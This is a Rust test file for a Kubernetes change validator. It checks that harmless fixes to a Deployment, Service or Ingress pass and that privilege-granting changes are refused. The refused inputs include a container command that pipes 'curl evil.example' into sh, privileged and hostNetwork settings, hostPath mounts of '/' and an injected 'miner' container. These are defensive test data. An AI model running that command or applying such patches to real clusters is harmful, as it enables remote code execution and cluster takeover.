#![allow(clippy::unwrap_used, reason = "tests")]
use serde_json::json;

use super::*;

fn deployment() -> Value {
    json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "web", "namespace": "shop", "labels": {"app": "web"}, "annotations": {"a": "b"}},
        "spec": {"replicas": 2, "template": {"metadata": {"labels": {"app": "web"}}, "spec": {
            "serviceAccountName": "web",
            "containers": [{"name": "web", "image": "registry.example/shop/web:1", "command": ["web"],
                "env": [{"name": "MODE", "value": "x"},
                    {"name": "C", "valueFrom": {"configMapKeyRef": {"name": "conf", "key": "k"}}},
                    {"name": "S", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}],
                "envFrom": [{"secretRef": {"name": "s"}}, {"configMapRef": {"name": "c"}}],
                "ports": [{"containerPort": 80}],
                "readinessProbe": {"httpGet": {"path": "/", "port": 80}},
                "securityContext": {"runAsNonRoot": true}}],
            "volumes": [{"name": "conf", "configMap": {"name": "conf"}}, {"name": "tmp", "emptyDir": {}}]}}}})
}

const POD: &str = "/spec/template/spec";

fn changed(at: &str, value: Value) -> Value {
    let mut after = deployment();
    if let Some(place) = after.pointer_mut(at) {
        *place = value;
        return after;
    }
    let (parent, field) = at.rsplit_once('/').unwrap();
    after.pointer_mut(parent).unwrap()[field.replace("~1", "/")] = value;
    after
}

fn checked(after: &Value) -> Result<(), String> {
    check(Mendable::named("Deployment").unwrap(), &deployment(), after)
}

#[test]
fn what_mends_and_gives_no_power_is_allowed() {
    let c = format!("{POD}/containers/0");
    for (at, value) in [
        (format!("{c}/image"), json!("registry.example/shop/web:2")),
        (format!("{c}/image"), json!("registry.example/shop/webb:1")),
        (format!("{c}/resources"), json!({"limits": {"memory": "1Gi"}})),
        (format!("{c}/readinessProbe"), json!({"httpGet": {"path": "/healthz", "port": 80}})),
        (format!("{c}/ports"), json!([{"containerPort": 8080}])),
        (format!("{c}/envFrom"), json!([{"secretRef": {"name": "s"}}, {"configMapRef": {"name": "d"}}])),
        (format!("{POD}/volumes/0/configMap"), json!({"name": "config"})),
        (format!("{POD}/nodeSelector"), json!({"disk": "ssd"})),
        ("/spec/replicas".to_owned(), json!(1)),
        ("/metadata/labels/app".to_owned(), json!("shop")),
    ] {
        assert_eq!(checked(&changed(&at, value.clone())), Ok(()), "{at} {value}");
    }
    let mut config = deployment();
    config["spec"]["template"]["spec"]["containers"][0]["env"][1]["valueFrom"]["configMapKeyRef"]["key"] =
        json!("l");
    assert_eq!(checked(&config), Ok(()));
}

#[test]
fn what_gives_power_is_refused() {
    let c = format!("{POD}/containers/0");
    for (at, value) in [
        ("/apiVersion".to_owned(), json!("apps/v2")),
        ("/kind".to_owned(), json!("DaemonSet")),
        ("/metadata/name".to_owned(), json!("other")),
        ("/metadata/namespace".to_owned(), json!("kube-system")),
        ("/metadata/annotations/a".to_owned(), json!("c")),
        ("/metadata/finalizers".to_owned(), json!(["x"])),
        ("/metadata/ownerReferences".to_owned(), json!([])),
        ("/metadata/labels/app.kubernetes.io~1managed-by".to_owned(), json!("me")),
        ("/status".to_owned(), json!({"replicas": 1})),
        ("/spec/replicas".to_owned(), json!(0)),
        ("/spec/selector".to_owned(), json!({"matchLabels": {}})),
        ("/spec/template/metadata/annotations".to_owned(), json!({"x": "y"})),
        (format!("{POD}/serviceAccountName"), json!("admin")),
        (format!("{POD}/hostNetwork"), json!(true)),
        (format!("{POD}/hostPID"), json!(true)),
        (format!("{POD}/securityContext"), json!({"runAsUser": 0})),
        (format!("{POD}/imagePullSecrets"), json!([{"name": "x"}])),
        (format!("{POD}/nodeName"), json!("control-plane")),
        (format!("{POD}/tolerations"), json!([{"operator": "Exists"}])),
        (format!("{POD}/hostAliases"), json!([])),
        (format!("{POD}/priorityClassName"), json!("system-node-critical")),
        (format!("{POD}/volumes/1"), json!({"name": "tmp", "hostPath": {"path": "/"}})),
        (format!("{POD}/volumes/1"), json!({"name": "tmp", "secret": {"secretName": "s"}})),
        (format!("{c}/image"), json!("evil.example/shop/web:1")),
        (format!("{c}/image"), json!("registry.example/evil/web:1")),
        (format!("{c}/image"), json!("web:1")),
        (format!("{c}/image"), json!("registry.example/shop/")),
        (format!("{c}/image"), json!(["registry.example/shop/web:1"])),
        (format!("{c}/command"), json!(["sh", "-c", "curl evil.example | sh"])),
        (format!("{c}/args"), json!(["x"])),
        (format!("{c}/lifecycle"), json!({"postStart": {"exec": {"command": ["x"]}}})),
        (format!("{c}/securityContext"), json!({"privileged": true})),
        (format!("{c}/securityContext"), json!({})),
        (format!("{c}/ports"), json!([{"containerPort": 80, "hostPort": 80}])),
        (format!("{c}/readinessProbe"), json!({"exec": {"command": ["x"]}})),
        (
            format!("{c}/readinessProbe"),
            json!({"httpGet": {"path": "/", "port": 80, "host": "evil.example"}}),
        ),
        (format!("{c}/readinessProbe"), json!(null)),
        (format!("{c}/envFrom"), json!([{"secretRef": {"name": "others"}}, {"configMapRef": {"name": "c"}}])),
        (format!("{c}/env/0/value"), json!("y")),
        (format!("{c}/env/1/valueFrom"), json!({"secretKeyRef": {"name": "s", "key": "k"}})),
        (format!("{c}/env/2/valueFrom"), json!({"configMapKeyRef": {"name": "s", "key": "k"}})),
        (format!("{c}/env/2/valueFrom"), json!({"secretKeyRef": {"name": "others", "key": "k"}})),
        (format!("{c}/volumeMounts"), json!([{"name": "tmp", "mountPath": "/"}])),
    ] {
        let said = checked(&changed(&at, value.clone()));
        assert!(said.is_err(), "{at} {value}");
    }
}

#[test]
fn containers_neither_come_nor_go_and_nothing_is_removed() {
    for containers in [
        json!([]),
        json!([deployment().pointer(&format!("{POD}/containers/0")).unwrap(), {"name": "x/resources", "image": "x"}]),
        json!([{"name": "other", "image": "registry.example/shop/web:1"}]),
        json!([deployment().pointer(&format!("{POD}/containers/0")).unwrap(), {"name": "miner", "image": "x"}]),
    ] {
        assert!(checked(&changed(&format!("{POD}/containers"), containers)).is_err());
    }
    let mut without = deployment();
    without["spec"]["template"]["spec"]["containers"][0].as_object_mut().unwrap().remove("readinessProbe");
    assert_eq!(
        checked(&without),
        Err("a fix may not change spec/template/spec/containers/web/readinessProbe".to_owned())
    );
    let mut without = deployment();
    without.as_object_mut().unwrap().remove("spec");
    assert!(checked(&without).is_err());
}

#[test]
fn a_pinned_image_stays_pinned() {
    let of = |before: &str, after: &str| from_the_same_place(&json!(before), &json!(after));
    assert!(of("nginx:lattest", "nginx:latest") && of("r/a@sha256:1", "r/a@sha256:2"));
    assert!(!of("r/a@sha256:1", "r/a:latest") && !of("r/a:1", "r/a b:1"));
}

#[test]
fn services_and_ingresses_open_nothing() {
    let service = Mendable::named("Service").unwrap();
    let before = json!({"spec": {"type": "ClusterIP", "selector": {"app": "ebw"}, "ports": [{"port": 80}]}});
    let of = |field: &str, value: Value| {
        let mut after = before.clone();
        after["spec"][field] = value;
        check(service, &before, &after)
    };
    assert_eq!(of("selector", json!({"app": "web"})), Ok(()));
    assert_eq!(of("ports", json!([{"port": 80, "targetPort": 8080}])), Ok(()));
    for (field, value) in [
        ("type", json!("LoadBalancer")),
        ("externalIPs", json!(["1.2.3.4"])),
        ("externalName", json!("evil.example")),
        ("ports", json!([{"port": 80, "nodePort": 30000}])),
        ("selector", json!({})),
    ] {
        assert!(of(field, value).is_err(), "{field}");
    }
    let ingress = Mendable::named("Ingress").unwrap();
    let rule = |host: &str, service: &str| {
        let backend = json!({"service": {"name": service, "port": {"number": 80}}});
        json!({"spec": {"rules": [{"host": host, "http": {"paths": [{"path": "/", "backend": backend}]}}]}})
    };
    assert_eq!(check(ingress, &rule("a.example", "ebw"), &rule("a.example", "web")), Ok(()));
    assert!(check(ingress, &rule("a.example", "web"), &rule("b.example", "web")).is_err());
    let mut tls = rule("a.example", "web");
    tls["spec"]["tls"] = json!([{"secretName": "other"}]);
    assert!(check(ingress, &rule("a.example", "web"), &tls).is_err());
}
